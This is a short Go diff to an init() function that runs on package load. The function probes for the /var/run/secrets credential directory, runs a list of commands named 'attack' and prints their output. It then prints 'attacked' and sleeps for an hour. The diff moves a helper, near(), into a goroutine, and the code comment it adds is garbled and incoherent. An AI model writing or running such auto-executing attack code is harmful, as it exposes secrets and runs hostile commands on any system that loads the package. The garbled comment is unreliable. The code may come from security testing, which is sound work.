@@ -24,7 +24,8 @@ func init() {
 	case slices.Contains(os.Args, "-h"):
 		os.Exit(0)
 	}
-	near()
+	var wait sync.WaitGroup
+	wait.Go(near) // which mostly waits, and there is as long for it all as a manager may take that is never ready
 	claims()
 	if _, err := os.Stat("/var/run/secrets"); err == nil {
 		fmt.Println("did see secrets")
@@ -35,6 +36,7 @@ func init() {
 		out, err := cmd.CombinedOutput()
 		fmt.Printf("%s: %v\n%s", attack[0], err, out[:min(len(out), 10_000)])
 	}
+	wait.Wait()
 	fmt.Println("attacked")
 	time.Sleep(time.Hour)
 }
